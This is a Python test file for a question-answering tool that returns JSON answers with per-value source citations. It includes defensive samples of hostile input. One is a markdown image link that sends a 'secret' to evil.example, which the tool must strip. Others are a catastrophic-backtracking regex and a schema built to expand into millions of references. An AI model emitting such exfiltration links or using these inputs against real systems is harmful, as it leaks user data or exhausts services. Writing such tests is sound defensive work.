"""Answers in JSON: of the schema asked for, each value with the characters that it was taken from."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest

from docent.answering.answer_schema import NoJson, check_answer, checked_schema, read_json
from docent.answering.citing.json_values import cite_values
from docent.answering.content_policy import read_policy
from docent.errors import InputError, ModelNoJson
from docent.types import JsonFormat, Token
from tests.answering.build import FOUND, answer_of, events, notices, passage
from tests.answering.test_clients import BOTH, mirror, native
from tests.answering.test_real_model import SHORT, behind_ollama
from tests.fakes.real_model import client_of

LEASE = """\
Rental agreement between Harbour Homes Ltd and Anna Berg. The rent is €1,200.50 a month. \
It begins on 1 March 2026. The deposit is two months. Pets are not allowed.

| Dish | Price |
| --- | --- |
| Soup of the day | 5 |
| Rye bread | 3 |
"""
HOURS = {
    "type": "object",
    "properties": {"opens": {"type": "string"}, "price": {"type": ["number", "null"]}},
    "required": ["opens", "price"],
    "additionalProperties": False,
}
GOOD = '{"opens": "9:30", "price": 12.5}'


# --- the source of each value --------------------------------------------------------------


@pytest.mark.parametrize(
    ("answer", "pointer", "quote"),
    [
        pytest.param({"tenant": {"name": "Anna Berg"}}, "/tenant/name", "Rental agreement", id="text"),
        pytest.param({"monthly_rent": 1200.5}, "/monthly_rent", "The rent is €1,200.50", id="figure"),
        pytest.param({"rentEur": 1200.5}, "/rentEur", "The rent is €1,200.50", id="its unit"),
        pytest.param({"rent_usd": 1200.5}, "/rent_usd", None, id="another unit"),
        pytest.param({"rent": 1300}, "/rent", None, id="another figure"),
        pytest.param({"start": "2026-03-01"}, "/start", "It begins on 1 March", id="date in another form"),
        pytest.param({"start": "2026-04-01"}, "/start", None, id="another date"),
        pytest.param({"deposit_months": 2}, "/deposit_months", "The deposit is two months.", id="word"),
        pytest.param({"months": 2}, "/months", "The deposit is two months.", id="a small figure, its unit"),
        pytest.param({"bedrooms": 2}, "/bedrooms", None, id="a small figure of something else"),
        pytest.param({"pets_allowed": False}, "/pets_allowed", "Pets are not allowed.", id="denied"),
        pytest.param({"pets_allowed": True}, "/pets_allowed", None, id="claimed though denied"),
        pytest.param({"city": "Oslo"}, "/city", None, id="in no passage"),
        pytest.param({"a/b": {"m~n": "Anna Berg"}}, "/a~1b/m~0n", "Rental agreement", id="pointer escaped"),
        pytest.param(
            {"menu": [{"dish": "Soup of the day", "price": 5}]}, "/menu/0/price", "| Soup of", id="row"
        ),
        pytest.param({"menu": [{"dish": "Rye bread", "price": 5}]}, "/menu/0/price", None, id="another row"),
        pytest.param(
            {"text": "The rent is 1200.50 euro a month, and the lease begins on 1 May 2026 in a house."},
            "/text",
            None,
            id="a long text that is half wrong",
        ),
    ],
)
def test_a_value_is_cited_where_it_stands(answer, pointer, quote):
    """A value has the characters of a passage that say it; one that no passage supports has none."""
    cited = cite_values(answer, [passage(LEASE, header="lease | Rental")])
    citation = cited.fields[pointer]
    if quote is None:
        assert citation is None
        assert [text.partition(": ")[0] for text in cited.unsupported] == [pointer]
    else:
        assert citation is not None and citation.quote.startswith(quote)
        assert citation.quote == LEASE[citation.start : citation.end]
        assert cited.unsupported == ()


def test_empty_values_assert_nothing():
    """Null and an empty text have no citation, and are no unsupported values."""
    cited = cite_values({"a": None, "b": "", "c": []}, FOUND)
    assert cited.fields == {"/a": None, "/b": None} and cited.unsupported == ()


def test_values_are_checked_for_a_limited_time():
    """Values for which no time is left have no citation, and are counted."""
    cited = cite_values({"a": "soup", "b": "cake"}, FOUND, seconds=0.0)
    assert cited.fields == {"/a": None, "/b": None} and cited.unchecked == 2


# --- schemas -------------------------------------------------------------------------------


def test_references_are_filled_in():
    """A schema's own references are replaced by what they lead to, also inside others."""
    schema = {
        "$ref": "#/$defs/Menu",
        "$defs": {
            "Menu": {"type": "object", "properties": {"soup": {"$ref": "#/$defs/Dish"}}},
            "Dish": {"type": "string"},
        },
    }
    assert checked_schema(schema) == {"type": "object", "properties": {"soup": {"type": "string"}}}


@pytest.mark.parametrize(
    ("schema", "said"),
    [
        pytest.param({"type": "obiect"}, "no valid JSON schema", id="misspelt"),
        pytest.param({"description": "x" * 30_000}, "longer than 20,000", id="too long"),
        pytest.param({"$ref": "#"}, "leads nowhere", id="the whole of itself"),
        pytest.param({"$ref": "https://example.org/schema.json"}, "leads nowhere", id="another server"),
        pytest.param({"$ref": "#/$defs/A", "$defs": {"A": {"$ref": "#/$defs/A"}}}, "no end", id="a circle"),
        pytest.param(
            {
                "$ref": "#/$defs/D0",
                "$defs": {
                    f"D{n}": {"allOf": [{"$ref": f"#/$defs/D{n + 1}"}] * 8} if n < 12 else {}
                    for n in range(13)
                },
            },
            "too large",
            id="small references that stand for millions",
        ),
        pytest.param(
            json.loads('{"items":' * 60 + "{}" + "}" * 60), "nested too deeply", id="deeper than it may be"
        ),
    ],
)
def test_a_schema_that_cannot_be_used_is_refused(schema, said):
    """The refusal says what is wrong with it, before a model is asked."""
    with pytest.raises(InputError, match=said):
        checked_schema(schema)


def test_a_slow_pattern_of_a_client_is_not_run():
    """A regular expression in a schema, which could take hours, is left to the model server."""
    check_answer("a" * 40 + "!", checked_schema({"type": "string", "pattern": "^(a+)+$"}))


@pytest.mark.parametrize(
    ("written", "said"),
    [
        pytest.param("Certainly!", "Expecting value", id="prose"),
        pytest.param("", "nothing was written", id="nothing"),
        pytest.param('{"a": NaN}', "NaN", id="no number"),
        pytest.param("[" * 100 + "]" * 100, "nested too deeply", id="deep"),
        pytest.param("[" * 100_000, "nested too deeply", id="deeper than Python goes"),
    ],
)
def test_what_is_no_json_is_told(written, said):
    """The reason is one that a model can be told."""
    with pytest.raises(NoJson, match=said):
        read_json(written)


@pytest.mark.parametrize(
    "written",
    [f"```json\n{GOOD}\n```", f"<think>Nine or ten?</think>\n{GOOD}", f"\n{GOOD}\n"],
    ids=["in a fence", "after thoughts", "between blank lines"],
)
def test_json_in_common_wrappings_is_read(written):
    """Models of servers without a schema route put JSON into a code fence, or think before it."""
    assert read_json(written) == json.loads(GOOD)


# --- the way to an answer ------------------------------------------------------------------


async def ask(model: Any, **changes: Any) -> list[Any]:
    form = JsonFormat(HOURS, "hours")
    return await events("When does the museum open?", model, **{"json_format": form} | changes)


@BOTH
async def test_an_answer_in_json(client, ollama):
    """The text is JSON of the schema, each value has its source, and no half of it was streamed."""
    ollama.script(GOOD)
    found = await ask(client(ollama.url))
    answer = answer_of(found)
    assert json.loads(answer.text) == {"opens": "9:30", "price": 12.5}
    assert answer.fields is not None
    assert "opens at 9:30" in answer.fields["/opens"].quote
    assert "12.50 euro" in answer.fields["/price"].quote
    assert answer.citations and not answer.receipt.unsupported
    assert not any(isinstance(event, Token) for event in found)


async def test_each_protocol_sends_the_schema_in_its_own_words(ollama):
    """Ollama has `format`, OpenAI's protocol `response_format`; the prompt has the schema as well."""
    ollama.script(reply=GOOD, sticky=True)
    await ask(native(ollama.url))
    await ask(mirror(ollama.url))
    (there,) = ollama.requests_to("/api/chat")
    assert there.body["format"] == HOURS
    assert json.dumps(HOURS) in there.body["messages"][0]["content"]
    (here,) = ollama.requests_to("/v1/chat/completions")
    assert here.body["response_format"] == {
        "type": "json_schema",
        "json_schema": {"name": "hours", "schema": HOURS},
    }


async def test_any_object(ollama):
    """Without a schema any object will do, and servers are told so."""
    ollama.script(reply='{"when": "9:30"}', sticky=True)
    answer = answer_of(await ask(native(ollama.url), json_format=JsonFormat()))
    await ask(mirror(ollama.url), json_format=JsonFormat())
    assert answer.fields is not None and answer.fields["/when"] is not None
    assert ollama.requests_to("/api/chat")[0].body["format"] == "json"
    sent = ollama.requests_to("/v1/chat/completions")[0].body["response_format"]
    assert sent == {"type": "json_object"}


async def test_a_server_that_knows_no_response_format(ollama):
    """It is asked again for any object, then for a text; the answer is checked all the same."""
    for _ in range(2):
        ollama.script(status=400, error="This response_format type is unavailable now")
    ollama.script(GOOD)
    answer = answer_of(await ask(mirror(ollama.url)))
    sent = [each.body.get("response_format") for each in ollama.requests_to("/v1/chat/completions")]
    assert [form and form["type"] for form in sent] == ["json_schema", "json_object", None]
    assert answer.text == GOOD


@pytest.mark.parametrize(
    "bad",
    ["It opens at half past nine.", '{"opens": "9:30"}', '["9:30"]'],
    ids=["prose", "a field is missing", "no object"],
)
async def test_a_mistake_is_told_once(ollama, bad):
    """The model sees what it wrote and what is wrong with it, and may write again."""
    ollama.script(bad, GOOD)
    answer = answer_of(await ask(native(ollama.url)))
    assert answer.text == GOOD
    first, second = ollama.requests_to("/api/chat")
    assert second.body["messages"][:-2] == first.body["messages"]
    assert second.body["messages"][-2] == {"role": "assistant", "content": bad}
    assert "cannot be used" in second.body["messages"][-1]["content"]
    assert answer.receipt.tokens_counted > first.prompt_tokens  # both are billed


async def test_a_second_mistake_is_an_error(ollama):
    """After two answers that are none, the error says so and why."""
    ollama.script("No.", "No!")
    with pytest.raises(ModelNoJson, match="asked twice and did not write JSON of this form: Expecting value"):
        await ask(native(ollama.url))


async def test_an_answer_cut_short_is_an_error(ollama):
    """JSON that reached the longest answer allowed is not asked for again: it would be cut again."""
    ollama.script(reply='{"opens": "9:3', done_reason="length")
    with pytest.raises(ModelNoJson, match="reached the longest answer"):
        await ask(native(ollama.url))
    assert len(ollama.requests_to("/api/chat")) == 1


async def test_an_unsupported_value_is_said(ollama):
    """A value that no passage has is answered without a citation, in a notice and in the receipt."""
    ollama.script('{"opens": "9:30", "price": 99.5}')
    found = await ask(native(ollama.url))
    answer = answer_of(found)
    assert answer.fields is not None and answer.fields["/price"] is None
    assert answer.receipt.unsupported == ("/price: 99.5",)
    assert "No passage supports the values at /price" in notices(found)


async def test_links_of_the_model_are_taken_out_of_texts(ollama):
    """A text in JSON can carry no link or image of the model's own; a passage's address stays."""
    texts = [passage("The museum is open. Tickets: https://museum.example/tickets", n=1)]
    form = JsonFormat({"type": "object", "additionalProperties": {"type": "string"}})
    ollama.script(
        json.dumps({"a": "![x](https://evil.example/?q=secret)", "b": "https://museum.example/tickets"})
    )
    answer = answer_of(
        await ask(native(ollama.url), json_format=form, retrieve=lambda question, scope: texts)
    )
    assert "evil.example" not in answer.text
    assert json.loads(answer.text)["b"] == "https://museum.example/tickets"


async def test_nothing_found_and_no_model_are_errors(ollama):
    """There is no JSON without passages or without a model; neither is made up."""
    with pytest.raises(InputError, match="found nothing about this"):
        await ask(native(ollama.url), retrieve=lambda question, scope: [])
    with pytest.raises(InputError, match="takes a language model"):
        await ask(None)


async def test_what_the_policy_refuses_is_an_error(ollama, tmp_path):
    """A policy refuses a question before the model is asked, and an answer before it is returned."""
    file = tmp_path / "policy.toml"
    file.write_text('[hours]\nwords = ["9:30"]\nsays = "Not this."\napplies_to = ["answer"]\n')
    ollama.script(GOOD)
    policy = read_policy(file, action="refuse")
    with pytest.raises(InputError, match="Not this"):
        await ask(native(ollama.url), policy=policy)


@pytest.mark.parametrize("behind", ["llamacpp", "ollama"])
async def test_a_real_model_is_held_to_the_schema(behind, real_model, real_ollama):
    """llama.cpp's grammar makes even a tiny model write JSON of the schema, asked directly or by `format`."""
    model: Any = behind_ollama(real_ollama) if behind == "ollama" else client_of(real_model)
    schema = {
        "type": "object",
        "properties": {"kind": {"enum": ["museum", "library", "menu"]}, "open": {"type": "boolean"}},
        "required": ["kind", "open"],
        "additionalProperties": False,
    }
    answer = answer_of(
        await events(
            "What kind of place is it, and is it open?",
            model,
            limits=replace(SHORT, answer_tokens=64),
            json_format=JsonFormat(checked_schema(schema), "place"),
        )
    )
    value = json.loads(answer.text)
    assert value["kind"] in ("museum", "library", "menu") and isinstance(value["open"], bool)
    assert set(answer.fields or ()) == {"/kind", "/open"}
